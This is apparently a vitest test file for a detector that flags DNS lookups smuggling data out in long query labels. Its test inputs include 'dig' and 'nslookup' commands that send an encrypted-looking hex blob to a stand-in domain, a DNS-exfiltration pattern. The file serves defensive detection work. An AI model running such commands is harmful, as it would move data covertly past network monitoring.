import { describe, expect, it } from 'vitest';
import { process } from '../../test/host-view.ts';
import { asksWithData } from './name-questions.ts';

describe('a question to a name server', () => {
  const asks = (command: string): boolean => {
    const words = command.split(' ');
    const image = `/usr/bin/${words[0] ?? ''}`;
    return asksWithData(process({ platform: 'linux', image, arguments: words, commandLine: command }));
  };

  it('holds data where the name is longer than names people ask for', () => {
    const label = '53616c7465645f5f8feac573e9a643eead5c7088bc440f';
    expect(asks(`dig +short ${label}.x.example`)).toBe(true);
    expect(asks(`nslookup ${label}.x.example 203.0.113.53`)).toBe(true);
    expect(asks('dig +short www.corp.example')).toBe(false);
    expect(asks(`curl http://${label}.x.example`)).toBe(false);
  });
});
